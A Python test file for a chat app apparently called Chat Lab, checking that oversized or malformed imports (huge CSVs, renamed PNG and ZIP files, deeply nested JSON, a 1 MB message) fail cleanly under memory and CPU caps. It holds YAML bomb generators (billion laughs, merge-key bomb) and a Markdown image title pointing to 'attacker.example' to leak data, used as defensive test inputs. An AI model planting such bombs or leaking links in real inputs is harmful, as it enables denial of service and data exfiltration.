"""Oversized and malformed inputs: each gets a clear message, within bounded memory and time.

Every case runs in a fresh interpreter whose address space is capped (RLIMIT_AS) and whose CPU time is
capped (RLIMIT_CPU), so a case that balloons dies of MemoryError and one that spins is killed, instead of
taking the test run — or this small machine — down with it. CPU seconds, not wall-clock seconds: a
machine busy with other work slows a case down without using up its allowance, so the bound holds on a
shared machine and still catches a case that does not end. (A far longer wall-clock limit only keeps a
child that blocks without using CPU from hanging the run.)

The cap is about twice what the largest normal case needs, measured here: a 20 MB transcript import peaks
near 590 MB of address space, a 1 MB chat message sent through AppTest near 700 MB. Before the fixes that
came with these tests, a 10 MB roles YAML of short items needed 1.8 GB and 90 s, a YAML list of 5 million
items did not finish in 5 minutes, and a 20 MB CSV of one-word rows would have needed gigabytes and
minutes of INSERTs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest

from chatlab.roles.custom import MAX_CUSTOM_FILE_BYTES
from chatlab.roles.importer import MAX_IMPORT_BYTES as MAX_COLLECTION_BYTES
from chatlab.transcript import MAX_IMPORT_BYTES, MAX_IMPORT_MESSAGES
from chatlab.yamlguard import MAX_FILE_BYTES as MAX_ROLES_BYTES
from tests.browser.harness import isolated_env
from tests.fake_openai import FakeOpenAI, Reply

ROOT = Path(__file__).resolve().parent.parent
MB = 1024 * 1024
MEMORY_CAP = 1536 * MB
CPU_SECONDS = 120  # the largest normal case needs about 15 CPU seconds here
WALL_CLOCK_S = 1800  # only for a child that blocks without using CPU

# Without these the child reserves address space it never uses, and the cap would measure that instead:
# glibc keeps a 64 MB arena per thread, and pyarrow's allocator reserves about 1 GB up front.
CHILD_ENV = {"MALLOC_ARENA_MAX": "2", "ARROW_DEFAULT_MEMORY_POOL": "system", "OPENBLAS_NUM_THREADS": "1"}

PRELUDE = f"""
import json, os, resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({MEMORY_CAP}, {MEMORY_CAP}))
resource.setrlimit(resource.RLIMIT_CPU, ({CPU_SECONDS}, {CPU_SECONDS + 5}))

def report(**result):
    print("RESULT " + json.dumps(result), flush=True)
"""


def run_capped(code: str, *args: str | Path, env: dict[str, str] | None = None) -> dict:
    """Run `code` (which calls report(...)) in a child capped in memory and CPU time; return its report."""
    child_env = {**os.environ, **CHILD_ENV, "PYTHONPATH": str(ROOT), **(env or {})}
    try:
        done = subprocess.run(
            [sys.executable, "-c", PRELUDE + textwrap.dedent(code), *map(str, args)],
            cwd=ROOT,
            env=child_env,
            capture_output=True,
            text=True,
            timeout=WALL_CLOCK_S,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"no answer within {WALL_CLOCK_S} s, blocked without using up its CPU allowance")
    if done.returncode == -signal.SIGXCPU:
        pytest.fail(f"the child used more than {CPU_SECONDS} CPU seconds: the input is not bounded in time")
    results = [line for line in done.stdout.splitlines() if line.startswith("RESULT ")]
    if done.returncode != 0 or not results:
        pytest.fail(
            f"the child failed (exit {done.returncode}) within the {MEMORY_CAP // MB} MB cap:\n{done.stderr[-3000:]}"
        )
    return json.loads(results[-1].removeprefix("RESULT "))


def test_the_memory_cap_is_real():
    # The proof that a case which balloons would fail rather than pass.
    with pytest.raises(pytest.fail.Exception, match="the child failed"):
        run_capped("report(size=len(bytearray(2 * resource.getrlimit(resource.RLIMIT_AS)[0])))")
    assert run_capped("report(size=len(bytearray(100 * 1024 * 1024)))") == {"size": 100 * MB}


def test_the_cpu_cap_is_real(monkeypatch):
    # The proof that a case which spins would fail rather than pass (with a 1 s allowance, to be quick).
    monkeypatch.setattr(sys.modules[__name__], "PRELUDE", PRELUDE.replace(f"({CPU_SECONDS}, ", "(1, "))
    with pytest.raises(pytest.fail.Exception, match="more than .* CPU seconds"):
        run_capped("while True: pass")


# Transcript imports ---------------------------------------------------------------------------------------

IMPORT = """
from chatlab.store import Store
from chatlab.transcript import TranscriptError, import_transcript

path, db = sys.argv[1], sys.argv[2]
store = Store(db)
try:
    cid = import_transcript(store, open(path, "rb").read(), os.path.basename(path))
except TranscriptError as exc:
    report(error=str(exc), conversations=len(store.list_conversations(limit=10)))
else:
    messages = store.messages(cid)
    report(imported=len(messages), first=messages[0].content, last=messages[-1].content)
"""

REPLY = 'A long, realistic reply with commas, "quotes", 中文 and a formula-like -1 start.\n' * 30


def realistic_csv(size: int) -> bytes:
    """A valid transcript CSV (UTF-8 with BOM) of about `size` bytes: short questions and long replies."""

    def row(*cells: str) -> bytes:
        out = io.StringIO(newline="")
        csv.writer(out, lineterminator="\r\n").writerow(cells)
        return out.getvalue().encode("utf-8")

    parts = [b"\xef\xbb\xbf", row("role", "content")]
    total, last, turn = sum(map(len, parts)), row("user", "The last question"), 0
    while total + len(last) < size - 3 * len(REPLY):
        turn += 1
        for part in (row("user", f"Question {turn}?"), row("assistant", REPLY)):
            parts.append(part)
            total += len(part)
    return b"".join([*parts, last])


def deep_json(depth: int) -> bytes:
    return b'{"format": "chatlab-transcript", "version": 1, "messages": ' + b"[" * depth + b"]" * depth + b"}"


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


TRANSCRIPT_CASES = {
    # name: (file name, bytes, the message a user must see; None = it imports)
    "UTF-16 CSV": (
        "excel.csv",
        lambda: "role,content\r\nuser,你好\r\nassistant,世界\r\n".encode("utf-16"),
        None,
    ),
    "25 MB file": (
        "big.csv",
        lambda: realistic_csv(25 * MB),
        "too large to import (25.0 MB; the limit is 20 MB)",
    ),
    "PNG renamed .csv": (
        "photo.csv",
        lambda: b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(MB),
        "This is a PNG image, not a text file",
    ),
    "random bytes .csv": ("noise.csv", lambda: random.Random(2).randbytes(MB), "not a UTF-8 text file"),
    "zip renamed .csv": (
        "export.csv",
        lambda: zip_of("chat.csv", realistic_csv(MB)),
        "This is a ZIP archive",
    ),
    "UTF-16 without BOM": ("x.csv", lambda: "role,content\r\nuser,hi\r\n".encode("utf-16-le"), "NUL bytes"),
    "wrong columns": (
        "sheet.csv",
        lambda: b"name,age,city\r\n" + b"Ada,36,London\r\n" * 1000,
        "missing the required column(s): role, content (found: name, age, city)",
    ),
    "JSON nested 100k deep": ("deep.json", lambda: deep_json(100_000), "nested too deeply"),
    "20 MB of one-word rows": (
        "rows.csv",
        lambda: b"role,content\r\n" + b"user,a\r\n" * ((MAX_IMPORT_BYTES - 20) // 8),
        f"more than {MAX_IMPORT_MESSAGES:,} messages",
    ),
    "a header of a million columns": (
        "wide.csv",
        lambda: b"role,content," + b"x," * 1_000_000 + b"\r\nuser,hi\r\n",
        "repeats column(s): x",
    ),
}


@pytest.mark.parametrize("case", list(TRANSCRIPT_CASES))
def test_transcript_import(case, tmp_path):
    name, make, message = TRANSCRIPT_CASES[case]
    path = tmp_path / name
    path.write_bytes(make())
    result = run_capped(IMPORT, path, tmp_path / "chat.sqlite3")
    if message is None:
        assert "error" not in result, result["error"]
        assert result["imported"] > 1
    else:
        assert message in result.get("error", ""), result
        assert result["conversations"] == 0  # nothing was written


def test_a_10_mb_transcript_imports_whole(tmp_path):
    data = realistic_csv(10 * MB)
    path = tmp_path / "ten-mb.csv"
    path.write_bytes(data)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    result = run_capped(IMPORT, path, tmp_path / "chat.sqlite3")
    assert (result["imported"], result["first"], result["last"]) == (
        len(rows),
        "Question 1?",
        "The last question",
    )


HISTORY_IMPORT = """
from streamlit.testing.v1 import AppTest

app, files = sys.argv[1], sys.argv[2:]
at = AppTest.from_file(app, default_timeout=120).switch_page("pages/3_History.py").run()
uploads = [(os.path.basename(f), open(f, "rb").read(), "text/csv") for f in files]
at.file_uploader(key="history.import").set_value(uploads).run()
report(
    errors=[e.value for e in at.error],
    successes=[s.value for s in at.success],
    exceptions=[str(e.value) for e in at.exception],
)
"""


def test_the_history_page_explains_each_refused_file_and_imports_the_good_one(tmp_path):
    files = {
        "photo.csv": b"\x89PNG\r\n\x1a\n" + random.Random(3).randbytes(MB),
        "big.csv": realistic_csv(MAX_IMPORT_BYTES + MB),
        "good.csv": realistic_csv(10 * MB),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    env = {
        "CHATLAB_DB": str(tmp_path / "app.sqlite3"),
        "CHATLAB_SECRETS": str(tmp_path / "no-secrets.toml"),
        "CHATLAB_CUSTOM_ROLES": str(tmp_path / "custom_roles.yaml"),
    }
    result = run_capped(HISTORY_IMPORT, ROOT / "app.py", *(tmp_path / n for n in files), env=env)
    assert result["exceptions"] == []
    shown = sorted(re.sub(r"\\(.)", r"\1", e) for e in result["errors"])  # as read: escapes drawn away
    assert shown == [
        "big.csv was not imported (nothing was written): The file is too large to import (21.0 MB; the limit "
        "is 20 MB).",
        "photo.csv was not imported (nothing was written): This is a PNG image, not a text file; import a CSV "
        "(UTF-8) or JSON transcript exported by Chat Lab.",
    ]
    assert len(result["successes"]) == 1 and result["successes"][0].startswith("Imported good\\.csv")


# A 1 MB chat message ------------------------------------------------------------------------------------

HUGE_MESSAGE = """
from streamlit.testing.v1 import AppTest
from chatlab.store import Store

text = ("lorem ipsum dolor sit amet 你好 " * 40_000)[:1_000_000]
at = AppTest.from_file(sys.argv[1], default_timeout=120).run()
at.chat_input(key="chat.input").set_value(text).run()
warnings = [w.value for w in at.warning]
at.button(key="chat.confirm.yes").click().run()
cid = at.query_params["c"]
cid = cid[0] if isinstance(cid, list) else cid
stored = Store(os.environ["CHATLAB_DB"]).messages(cid)
report(
    warnings=warnings,
    exceptions=[str(e.value) for e in at.exception],
    stored=[(m.role, len(m.content), m.status) for m in stored],
    whole=stored[0].content == text,
    shown=[len(m.value) for m in at.markdown if m.value.startswith("lorem")],
)
"""


def test_a_1_mb_message_asks_first_then_is_stored_and_sent_whole(tmp_path):
    with FakeOpenAI(default=Reply(text="I read all of it.")) as fake:
        env = isolated_env(tmp_path, base_url=fake.base_url, api_key="sk-test-huge-0000")
        result = run_capped(HUGE_MESSAGE, ROOT / "app.py", env=env)
        sent = fake.chat_requests
    assert result["exceptions"] == []
    assert result["warnings"] == [
        "This message is 1,000,000 characters, about 250,000 tokens (estimated) — more than many models "
        "accept, and it may cost real money. Send it anyway?"
    ]
    assert result["stored"] == [["user", 1_000_000, "complete"], ["assistant", 17, "complete"]]
    assert result["whole"] is True
    assert len(sent) == 1 and len(sent[0].body["messages"][-1]["content"]) == 1_000_000
    # The page draws a readable part of it (the whole would freeze the browser) and says so.
    assert result["shown"] and max(result["shown"]) < 25_000


# YAML bombs in roles ------------------------------------------------------------------------------------


def billion_laughs() -> str:
    lines = ['l0: &l0 "lol"'] + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join([*lines, "version: 1", "roles:", "  - name: Boom", "    system: *l9", ""])


def merge_key_bomb() -> str:
    lines = ["m0: &m0 {k: v}"] + [f"m{i}: &m{i} {{<<: [*m{i - 1}, *m{i - 1}]}}" for i in range(1, 41)]
    return "\n".join(lines) + "\n"


def many_values(size: int) -> str:
    """A list of short items just under `size` bytes: no alias, just millions of values."""
    head = "version: 1\nroles:\n"
    return head + "- a\n" * ((size - len(head) - 1) // 4)


# name: (the file, given the reader's size cap; what the message must say, one of)
BOMBS = {
    "billion laughs": (lambda cap: billion_laughs(), ["YAML bomb"]),
    "merge-key bomb": (lambda cap: merge_key_bomb(), ["YAML bomb"]),
    "100k-deep list": (lambda cap: "roles: " + "[" * 100_000 + "]" * 100_000, ["nested too deeply"]),
    "100k-deep mapping": (
        lambda cap: "roles: " + "{a: " * 100_000 + "1" + "}" * 100_000,
        ["nested too deeply"],
    ),
    "millions of values": (lambda cap: many_values(min(cap, 10 * MB)), ["more than 200,000 values"]),
    "over the size cap": (
        lambda cap: "# " + "x" * cap + "\n",
        ["larger than", "files over 10 MB are refused"],
    ),
}

# Where a roles YAML comes from, how big it may be, and the code that reads it.
ROLE_SOURCES = {
    "roles.yaml": (
        MAX_ROLES_BYTES,
        """
        from chatlab.roles import RolesError, load_roles
        try:
            report(roles=len(load_roles(sys.argv[1])))
        except RolesError as exc:
            report(error=str(exc))
        """,
    ),
    "custom roles file": (
        MAX_CUSTOM_FILE_BYTES,
        """
        from chatlab.roles.custom import CustomRoles
        from chatlab.roles import RolesError
        try:
            report(roles=len(CustomRoles(sys.argv[1], builtin=[]).list()))
        except RolesError as exc:
            report(error=str(exc))
        """,
    ),
    "role collection import": (
        MAX_COLLECTION_BYTES,
        """
        from chatlab.roles.importer import RoleImportError, parse_collection
        try:
            report(roles=len(parse_collection(open(sys.argv[1], "rb").read(), "collection.yaml")))
        except RoleImportError as exc:
            report(error=str(exc))
        """,
    ),
}


@pytest.mark.parametrize("bomb", list(BOMBS))
@pytest.mark.parametrize("source", list(ROLE_SOURCES))
def test_yaml_bombs_in_roles_are_refused_with_a_clear_message(source, bomb, tmp_path):
    cap, code = ROLE_SOURCES[source]
    make, messages = BOMBS[bomb]
    path = tmp_path / "roles.yaml"
    path.write_text(make(cap), encoding="utf-8")
    result = run_capped(code, path)
    assert any(message in result.get("error", "") for message in messages), result


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("prompts.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(MB), "a PNG image, not a text file"),
        ("prompts.json", b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
        ("prompts.csv", b"act,prompt\r\n" + b"a,b\r\n" * (MAX_COLLECTION_BYTES // 5), "files over 10 MB"),
    ],
)
def test_role_collections_that_are_not_collections_are_refused(name, data, message, tmp_path):
    path = tmp_path / name
    path.write_bytes(data)
    code = """
    from chatlab.roles.importer import RoleImportError, parse_collection
    try:
        report(roles=len(parse_collection(open(sys.argv[1], "rb").read(), os.path.basename(sys.argv[1]))))
    except RoleImportError as exc:
        report(error=str(exc))
    """
    assert message in run_capped(code, path).get("error", "")


CHAT_WITH_ROLES = """
from streamlit.testing.v1 import AppTest

at = AppTest.from_file(sys.argv[1], default_timeout=120).run()
at.chat_input(key="chat.input").set_value("still here?").run()
report(
    warnings=[w.value for w in at.warning],
    exceptions=[str(e.value) for e in at.exception],
    replied=any("Still answering." in m.value for m in at.markdown),
)
"""


@pytest.mark.parametrize("variable", ["CHATLAB_ROLES", "CHATLAB_CUSTOM_ROLES"])
def test_the_chat_still_works_and_says_why_when_a_roles_file_is_a_bomb(variable, tmp_path):
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(billion_laughs(), encoding="utf-8")
    with FakeOpenAI(default=Reply(text="Still answering.")) as fake:
        env = {
            **isolated_env(tmp_path, base_url=fake.base_url, api_key="sk-test-bomb-0000"),
            variable: str(bomb),
        }
        result = run_capped(CHAT_WITH_ROLES, ROOT / "app.py", env=env)
    assert result["exceptions"] == []
    assert result["replied"] is True
    assert any("Some roles could not be loaded" in w and "YAML bomb" in w for w in result["warnings"]), result


def test_a_markdown_title_in_an_imported_file_is_shown_as_plain_text(app_env):
    # A shared transcript's title is anyone's text: as Markdown, an image in it would load on sight.
    from streamlit.testing.v1 import AppTest

    from chatlab.safe_markdown import WORD_JOINER
    from chatlab.store import Store
    from chatlab.transcript import import_transcript

    title = "![x](http://attacker.example/?q=leak) **LOUD**"
    data = f'conversation_title,role,content\r\n"{title}",user,hi\r\n'.encode()
    import_transcript(Store(os.environ["CHATLAB_DB"]), data, "shared.csv")
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=30).switch_page("pages/3_History.py").run()
    table = next(f.key for f in at.dataframe if f.key and f.key.startswith("history.table."))
    at.session_state[table] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.run()
    assert not at.exception
    shown = at.subheader[0].value
    assert "![" not in shown and "](" not in shown and "**" not in shown
    assert (
        shown.replace("\\", "").replace(WORD_JOINER, "") == title
    )  # every character is still there, escaped
